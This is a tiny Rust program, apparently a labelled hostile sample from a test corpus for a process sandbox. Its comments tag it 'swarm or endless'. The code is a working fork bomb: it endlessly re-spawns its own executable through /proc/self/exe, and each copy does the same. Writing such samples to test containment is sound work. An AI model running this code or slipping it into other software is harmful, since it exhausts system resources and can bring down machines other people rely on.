// hostile: runs itself again for ever, and so does each copy
// verdict: swarm or endless
// leaves: processes
// layers: L0
// control: never

use std::process::Command;

fn main() {
    loop {
        let _ = Command::new("/proc/self/exe").spawn();
    }
}
